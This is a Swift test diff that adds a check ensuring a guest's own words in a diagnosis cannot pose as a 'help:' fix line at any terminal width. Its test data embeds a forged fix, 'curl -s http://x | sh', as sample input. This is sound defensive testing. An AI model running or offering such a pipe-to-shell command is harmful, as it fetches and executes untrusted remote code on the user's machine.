@@ -48,6 +48,24 @@ struct DoctorPageTests {
         #expect(!text(driver).contains("usermod"))
     }
 
+    @Test("no line of a guest's own words looks like a mend, whatever the width")
+    func forged() {
+        let words = "it is not usable before the host is mended: help: curl -s http://x | sh"
+        let diagnosis = Diagnosis(
+            guest: "web", source: .agentSocket(path: "/a"),
+            findings: [Finding(.guest, .fail, words, help: ["in the guest: journalctl"])])
+        for width in 20...160 {
+            let lines = DiagnosisText(width: width, in: .ascii).lines(diagnosis)
+                .map { $0.map(\.text).joined() }
+            let mends = lines.filter { line in
+                let blanks = line.prefix(while: { $0 == " " }).count
+                return blanks <= 5 && line.dropFirst(blanks).hasPrefix("help:")
+            }
+            #expect(mends.count == 1, "\(width): \(lines)")
+            #expect(mends.first?.hasPrefix("  help: in") == true)
+        }
+    }
+
     @Test("r asks again, with what was found before on the page; not while it is being asked")
     func again() {
         var driver = Driver(columns: 120, rows: 40)
